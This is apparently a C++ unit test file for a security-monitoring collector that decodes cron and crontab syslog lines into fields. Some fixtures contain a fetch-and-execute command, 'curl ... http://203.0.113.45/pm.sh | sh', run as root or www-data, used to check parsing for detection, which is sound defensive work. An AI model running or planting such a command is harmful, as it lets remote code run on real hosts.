#include "collector/decode/cron.h"

#include <gtest/gtest.h>

#include <string>

#include "collector/decode/decoder.h"

namespace soc {
namespace {

TEST(DecodeCron, CommandsRunByCron) {
  Fields f;
  ASSERT_TRUE(decode_cron("(root) CMD (run-parts /etc/cron.hourly)", f));
  EXPECT_EQ(f.get("user.name"), "root");
  EXPECT_EQ(f.get("process.command_line"), "run-parts /etc/cron.hourly");
  EXPECT_EQ(f.get("event.action"), "cron_command");
  // The command runs to the last ')', whatever it holds.
  Fields g;
  ASSERT_TRUE(
      decode_cron("(www-data) CMD (curl -fsSL http://203.0.113.45/pm.sh | sh) (echo done))", g));
  EXPECT_EQ(g.get("process.command_line"),
            "curl -fsSL http://203.0.113.45/pm.sh | sh) (echo done)");
}

TEST(DecodeCron, CrontabEdits) {
  const auto action_of = [](std::string_view m) {
    Fields f;
    EXPECT_TRUE(decode_cron(m, f)) << m;
    EXPECT_EQ(f.get("user.name"), "www-data") << m;
    EXPECT_EQ(f.get("user.target.name"), "root") << m;
    return std::string(f.get("event.action").value_or(""));
  };
  EXPECT_EQ(action_of("(www-data) REPLACE (root)"), "crontab_replace");
  EXPECT_EQ(action_of("(www-data) BEGIN EDIT (root)"), "crontab_begin_edit");
  EXPECT_EQ(action_of("(www-data) END EDIT (root)"), "crontab_end_edit");
  EXPECT_EQ(action_of("(www-data) LIST (root)"), "crontab_list");
  EXPECT_EQ(action_of("(www-data) DELETE (root)"), "crontab_delete");
}

TEST(DecodeCron, OtherLinesAreNotDecoded) {
  for (const char* m :
       {"(CRON) INFO (pidfile fd = 3)", "(*system*) RELOAD (/etc/crontab)x", "root CMD (x)",
        "() CMD (x)", "(root) CMD x", "(root) DELETE root", "(a b) CMD (x)", ""}) {
    Fields f;
    EXPECT_FALSE(decode_cron(m, f)) << m;
    EXPECT_EQ(f.size(), 0u) << m;
  }
}

TEST(DecodeCron, ThroughTheDecoderForEveryCronProgram) {
  const Decoder decoder;
  for (const char* program : {"CRON[41022]", "cron[9]", "crond[7]", "CROND[3]"}) {
    Event e;
    e.env.ts = "2026-11-23T12:01:05+07:00";
    e.env.msg = std::string("Nov 23 12:01:01 web01 ") + program +
                ": (root) CMD (curl -fsSL http://203.0.113.45/pm.sh | sh)";
    decoder.decode(e);
    EXPECT_EQ(e.fields.get("process.command_line"), "curl -fsSL http://203.0.113.45/pm.sh | sh")
        << program;
    EXPECT_EQ(e.fields.get("user.name"), "root") << program;
  }
  Event pam;
  pam.env.msg =
      "Nov 23 12:01:01 web01 CRON[41022]: pam_unix(cron:session): session opened for user "
      "root(uid=0) by (uid=0)";
  decoder.decode(pam);
  EXPECT_EQ(pam.fields.get("user.name"), "root");
  Event tab;
  tab.env.msg = "Nov 23 12:01:01 web01 crontab[5511]: (www-data) DELETE (www-data)";
  decoder.decode(tab);
  EXPECT_EQ(tab.fields.get("event.action"), "crontab_delete");
}

}  // namespace
}  // namespace soc
